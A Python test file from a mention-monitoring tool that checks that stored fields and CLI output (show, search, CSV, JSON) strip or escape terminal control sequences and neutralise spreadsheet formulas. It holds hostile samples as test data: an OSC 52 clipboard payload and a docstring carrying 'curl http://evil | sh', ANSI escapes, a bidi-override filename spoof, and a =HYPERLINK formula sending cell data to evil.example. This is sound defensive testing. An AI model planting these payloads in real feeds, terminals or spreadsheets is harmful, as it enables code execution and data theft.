"""Terminal escape injection (issue 18.7) and CSV formula injection (issue 18.8).

Bluesky handles and Mastodon ``url``, ``uri`` and ``language`` were stored raw, and ``show``,
``search`` and ``--csv`` printed their ESC sequences: a window title, a cleared screen, an OSC 52
clipboard write of ``curl http://evil | sh``. Now every stored text field loses its control
characters and bidi overrides at the storage boundary, and the terminal output escapes any that
are still in the database (rows stored before) as a second line of defence.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from pytest_httpserver import HTTPServer
from sqlalchemy import insert, select, update

from connectors.mastodon import MastodonConnector
from monitor.cli import cli
from monitor.config import InstitutionSettings
from monitor.db import connector_state, mentions
from monitor.pipeline import store_result
from monitor.store import Store
from tests.factories import mention

HOSTILE = Path(__file__).resolve().parents[1] / "data" / "hostile"
ESC, BEL = "\x1b", "\x07"
WINDOW_TITLE = f"{ESC}]0;pwned{BEL}"
CLEAR = f"{ESC}[2J"
OSC52 = f"{ESC}]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo{BEL}"
CURIO = InstitutionSettings(name="Curio", aliases=("Curio mbo",), hashtags=("#curio",))
COLUMNS = ("source", "external_id", "url", "title", "text", "author", "lang", "matched_alias")


UNSAFE = frozenset((*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A, 0x202F),
                    *range(0x2066, 0x206A))) - {ord("\n"), ord("\t")}


def unsafe(value: str) -> bool:
    return any(ord(c) in UNSAFE for c in value)


def bluesky_like() -> object:
    """A Bluesky post as the connector hands it over: the handle is the author."""
    return mention(1, source="bsky", external_id=f"at://did:plc:x/app.bsky.feed.post/1{CLEAR}",
                   author=f"@evil{WINDOW_TITLE}.bsky.social", url=f"https://bsky.app/x{OSC52}",
                   title=f"Curio {CLEAR}", lang=f"nl{OSC52}",
                   text=f"Curio mbo\n\tregel twee \x9b2J \u202egnp.exe\u202c {ESC}[31mrood")


@pytest.fixture
def hostile_store(db_url: str, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch,
                  cli_env: dict) -> Store:
    """A Mastodon page with escapes in every field, fetched and stored; and a Bluesky-like post."""
    monkeypatch.delenv("SIGNALEER_MASTODON_TOKEN", raising=False)
    page = json.loads((HOSTILE / "terminal-escapes-mastodon.json").read_text(encoding="utf-8"))
    httpserver.expect_request("/api/v1/timelines/tag/curio").respond_with_json(page)
    connector = MastodonConnector.from_config(
        "fedi", {"instances": [httpserver.url_for("/").rstrip("/")], "hashtags": ["curio"]}, CURIO)
    connector.sleep = lambda _s: None
    result = connector.fetch(None)
    assert result.mentions and any(unsafe(m.url + m.external_id + (m.lang or ""))
                                   for m in result.mentions)  # the connector passes them on
    store = Store.open(db_url)
    store_result(store, connector, result, started=datetime.now(UTC), classifier=None,
                 matcher=None)
    store.insert_new([bluesky_like()])
    yield store
    store.close()


def _stored(store: Store) -> list[dict[str, str | None]]:
    with store.reading() as conn:
        return [dict(zip(COLUMNS, row, strict=True))
                for row in conn.execute(select(*(mentions.c[c] for c in COLUMNS)))]


def test_no_stored_field_carries_a_control_character(hostile_store: Store) -> None:
    rows = _stored(hostile_store)
    assert len(rows) == 2
    for row in rows:
        assert not [c for c, v in row.items() if v and unsafe(v)], row
    bsky = next(r for r in rows if r["source"] == "bsky")
    assert bsky["author"] == "@evil]0;pwned.bsky.social"
    assert bsky["text"] == "Curio mbo\n\tregel twee 2J gnp.exe [31mrood"  # lines and tabs kept


def _cli(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def _ids(store: Store) -> list[int]:
    with store.reading() as conn:
        return list(conn.execute(select(mentions.c.id).order_by(mentions.c.id)).scalars())


def test_show_search_and_csv_print_no_escape_sequence(hostile_store: Store) -> None:
    # a row stored before the boundary cleaned: the output must still not obey its controls
    with hostile_store.transaction() as conn:
        conn.execute(update(mentions).values(author=f"@old{WINDOW_TITLE}", lang=CLEAR,
                                             title=f"Curio oud {CLEAR}\x9b2J\u202e"))
    outputs = [_cli("show", str(i)) for i in _ids(hostile_store)]
    outputs += [_cli("search", "curio"), _cli("search", "curio", "--csv"),
                _cli("search", "curio", "--json"), _cli("show", "--json", str(_ids(hostile_store)[0]))]
    for out in outputs:
        assert not unsafe(out), repr(out[:300])
    assert "\\x1b]0;pwned\\x07" in outputs[0]  # shown as an escape, so M&C can see the attempt
    for line in outputs[-2].splitlines():
        json.loads(line)  # escaping keeps JSON valid


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=1+2", "+31 6 1234", "-2+3",
            "@SUM(A1)", "\t=1+2", "\r=1+2")


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_cannot_start_a_formula(store: Store, cli_env: dict, formula: str) -> None:
    store.insert_new([mention(1, text=f"{formula} Curio", title=formula, author=formula,
                              url=formula)])
    with store.transaction() as conn:  # the title as a row stored before any cleaning had it
        conn.execute(update(mentions).values(title=formula))
    [row] = list(csv.DictReader(io.StringIO(_cli("search", "curio", "--csv"))))
    for field in ("title", "author", "text", "url"):
        assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert row["title"].startswith("'")
    if formula[0] not in "\t\r":
        assert row["title"] == f"'{formula}" and row["text"] == f"'{formula} Curio"


def test_sources_shows_a_hostile_error_text_inert(store: Store, cli_env: dict,
                                                  tmp_path: Path) -> None:
    """A feed server chooses the words of a failed run's error; ``sources`` prints them."""
    config = tmp_path / "signaleer.toml"
    config.write_text('[institution]\nname = "Curio"\n\n[[connectors]]\nname = "nieuws"\n'
                      'kind = "rss"\n[connectors.options]\nurl = "http://127.0.0.1:9/x.xml"\n',
                      encoding="utf-8")
    with store.transaction() as conn:
        conn.execute(insert(connector_state).values(
            name="nieuws", kind="rss", consecutive_failures=1, updated_at=datetime.now(UTC),
            last_error=f"rss:nieuws: HTTP 500: {WINDOW_TITLE}[bold red]oeps[/] \x9b2J{OSC52}"))
    table = _cli("--config", str(config), "sources")
    as_json = _cli("--config", str(config), "sources", "--json")
    assert not unsafe(table) and not unsafe(as_json), (table, as_json)
    assert "oeps" in table and "[bold" in table  # shown as typed, not taken as rich markup
    assert "[bold red]oeps[/]" in json.loads(as_json)["last_error"]
